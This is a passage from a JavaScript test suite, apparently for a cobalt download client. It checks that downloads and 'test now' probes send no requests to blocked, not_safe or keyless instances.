      settings: { blocked: [blocked.origin] },
    });
    const job = await download(h);
    expect(job).toMatchObject({ state: 'done', servedBy: healthy.origin });
    expect(blocked.requests).toEqual([]);
  });

  it('"test now" on a blocked, not_safe or keyless official instance contacts nothing and says it is unavailable', async () => {
    const blocked = await cobalt();
    const notSafe = await cobalt();
    const h = await engineFor([blocked.origin, notSafe.origin], {
      feed: [entry(blocked.origin), entry(notSafe.origin, { trust: 'not_safe' })],
      settings: { blocked: [blocked.origin] },
    });
    // …and the official API without the user's key (it would not even leave loopback here).
    for (const origin of [blocked.origin, notSafe.origin, 'https://api.cobalt.tools']) {
      const results = await h.engine.handle({
        type: 'instance/test',
        payload: { origin, service: 'youtube' },
      });
      expect(results).toEqual([]);
    }
    expect(blocked.requests).toEqual([]);
    expect(notSafe.requests).toEqual([]);
    expect(h.refused).toEqual([]);
  });
});
